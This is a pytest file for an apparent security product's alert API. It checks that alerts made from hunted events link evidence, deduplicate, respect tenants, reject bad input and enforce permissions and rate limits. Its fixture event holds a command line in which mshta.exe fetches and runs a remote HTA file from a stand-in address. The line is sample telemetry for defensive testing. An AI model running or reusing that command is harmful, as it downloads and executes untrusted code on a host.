"""An alert that a client makes of an event that it found by hunting."""

import json

import pytest

from huntline.audit.models import Entry
from huntline.incidents.models import Alert
from huntline.outbox.services import dispatch
from huntline.web.subscribers import SUBSCRIBERS

pytestmark = pytest.mark.django_db

AT = "2026-11-15T22:14:03.1234567Z"
DEVICE = "d1" * 20
EVENT = {
    "Timestamp": AT,
    "DeviceId": DEVICE,
    "DeviceName": "ws01.aurora.example",
    "ActionType": "ProcessCreated",
    "FileName": "mshta.exe",
    "ProcessCommandLine": "mshta.exe http://203.0.113.9/x.hta",
    "AccountName": "mina",
    "AccountDomain": "AURORA",
    "ReportId": 77,
}
REFERENCE = {
    "eventTime": AT,
    "reportId": "77",
    "machineId": DEVICE,
    "severity": "Medium",
    "title": "Script host from the web",
    "description": "Somebody looked and did not like it.",
    "recommendedAction": "Isolate the device.",
    "category": "Execution",
}


@pytest.fixture
def store(sign_in):
    """Send events of processes of a customer by the ingest door."""

    def send(*rows, tenant="aurora"):
        admin = sign_in(f"{tenant}_admin")
        address = f"/api/v1/tenants/{tenant}/ingest-keys"
        key = admin.post(address, {"name": "sensor"}, content_type="application/json").json()["secret"]
        answer = admin.post(
            "/ingest/v1/rows/DeviceProcessEvents",
            "\n".join(map(json.dumps, rows)),
            content_type="application/x-ndjson",
            headers={"Authorization": f"Bearer {key}"},
        )
        assert answer.status_code == 200, answer.content

    return send


def refer(client, **changed):
    body = {name: value for name, value in (REFERENCE | changed).items() if value is not None}
    return client.post("/api/alerts/CreateAlertByReference", body, content_type="application/json")


class TestCreate:
    @pytest.mark.requirement("R19", "R58")
    def test_the_alert_has_the_event_as_evidence(self, caller, store):
        store(EVENT)
        client = caller()
        answer = refer(client)
        assert answer.status_code == 200, answer.content
        made = answer.json()
        assert made["@odata.context"].endswith("$metadata#Alerts/$entity")
        assert (made["title"], made["severity"], made["category"]) == (REFERENCE["title"], "Medium", "Execution")
        assert (made["detectionSource"], made["machineId"]) == ("Manual", DEVICE)
        assert made["firstEventTime"] == "2026-11-15T22:14:03.1234560Z"
        whole = client.get(f"/api/alerts/{made['id']}?$expand=evidence").json()
        assert "mshta.exe" in {one["fileName"] for one in whole["evidence"]}
        dispatch(SUBSCRIBERS)
        query = (
            f"DeviceAlertEvents | where AlertId == '{made['id']}' "
            "| join kind=inner DeviceProcessEvents on DeviceName, Timestamp, ReportId | project ProcessCommandLine"
        )
        hunted = client.post("/api/advancedqueries/run", {"Query": query}, content_type="application/json").json()
        assert hunted["Results"] == [{"ProcessCommandLine": EVENT["ProcessCommandLine"]}]

    def test_the_same_device_and_title_is_the_same_open_alert(self, caller, store):
        later = EVENT | {"Timestamp": "2026-11-15T23:00:00.0000000Z", "ReportId": 78}
        store(EVENT, later)
        client = caller()
        first = refer(client).json()
        second = refer(client, eventTime=later["Timestamp"], reportId=78).json()
        assert second["id"] == first["id"]
        assert second["lastEventTime"] == "2026-11-15T23:00:00.0000000Z"
        assert Entry.objects.filter(action="alert.extended").count() == 1

    def test_a_time_that_was_cut_to_milliseconds_finds_the_event(self, caller, store):
        store(EVENT)
        assert refer(caller(), eventTime="2026-11-15T22:14:03.123Z").status_code == 200

    @pytest.mark.parametrize(
        "changed", [{"reportId": "78"}, {"machineId": "d2" * 20}, {"eventTime": "2026-11-15T22:14:04Z"}]
    )
    def test_no_such_event(self, caller, store, changed):
        store(EVENT)
        answer = refer(caller(), **changed)
        assert (answer.status_code, answer.json()["error"]["code"]) == (404, "ResourceNotFound")
        assert not Alert.objects.unscoped("a test").exists()

    def test_the_event_of_a_stranger_is_not_there(self, caller, store):
        store(EVENT, tenant="bluefin")
        assert refer(caller("aurora")).status_code == 404

    @pytest.mark.parametrize(
        "changed",
        [
            {"title": None},
            {"title": " "},
            {"severity": "Informational"},
            {"category": "Trouble"},
            {"eventTime": "yesterday"},
            {"eventTime": "9999-12-31T23:59:59Z"},
            {"reportId": "-1"},
            {"reportId": "9" * 30},
            {"reportId": True},
            {"machineId": 5},
        ],
    )
    def test_refusals(self, caller, changed):
        answer = refer(caller(), **changed)
        assert (answer.status_code, answer.json()["error"]["code"]) == (400, "InvalidRequestBody")

    def test_reading_is_not_making(self, caller, store):
        store(EVENT)
        assert refer(caller("aurora", "Alert.Read.All")).status_code == 403

    def test_the_sixteenth_call_of_a_minute(self, caller, clock):
        client = caller()
        assert [refer(client, severity="x").status_code for _ in range(16)] == [400] * 15 + [429]
